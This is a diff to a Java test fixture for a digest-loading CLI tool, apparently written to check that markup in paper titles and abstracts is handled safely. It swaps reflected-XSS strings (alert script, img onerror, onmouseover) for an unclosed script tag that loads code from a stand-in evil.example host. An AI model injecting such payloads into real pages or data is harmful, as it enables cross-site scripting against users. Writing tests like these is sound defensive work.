@@ -11,13 +11,18 @@ import winnow.cli.Cli;
 final class Kitchen {
     static final String SCRIPT = "<script>alert(1)</script>";
 
+    /** A tag that never ends, which no reader of digests takes for markup. */
+    static final String OPEN = "<script src=//evil.example/x.js";
+
     private static final String DIGEST = """
-            [{"title": "Kettles: Water in Tune",
-              "abstract": "A kettle that whistles in tune, the Reed, is described. It boils 16% faster than the old one."},
-             {"title": "Spoons: <script>alert(1)</script> \\"><img src=x onerror=alert(2)> Stirred",
-              "abstract": "We ask 40 cooks about <script>alert(1)</script> spoons. The \\"quoted' & <b>bold</b> ones stir. Code is at https://example.org/\\"onmouseover=\\"alert(3)."},
-             {"title": "Forks: Four Tines",
-              "abstract": "Forks with four tines are described here. They are 2x better than forks with three."}]
+            Title: Kettles: Water in Tune
+            Abstract: A kettle that whistles in tune, the Reed, is described. It boils 16% faster than the old one.
+
+            Title: Spoons: "><script src=//evil.example/x.js Stirred
+            Abstract: We ask 40 cooks about "><script src=//evil.example/x.js spoons. The "quoted' & <b bold ones stir.
+
+            Title: Forks: Four Tines
+            Abstract: Forks with four tines are described here. They are 2x better than forks with three.
             """;
 
     private static final String BRIEF = """
@@ -58,8 +63,8 @@ final class Kitchen {
     static Path in(Path folder) throws IOException {
         Files.createDirectories(folder.resolve("reference/papers"));
         Files.writeString(folder.resolve("reference/papers/kettles.md"), BRIEF);
-        Files.writeString(folder.resolve("kitchen.json"), DIGEST);
-        assertThat(Cli.run(folder, "load", "kitchen.json", "--accept").code()).isZero();
+        Files.writeString(folder.resolve("kitchen.txt"), DIGEST);
+        assertThat(Cli.run(folder, "load", "kitchen.txt", "--accept").code()).isZero();
         return folder;
     }
 }
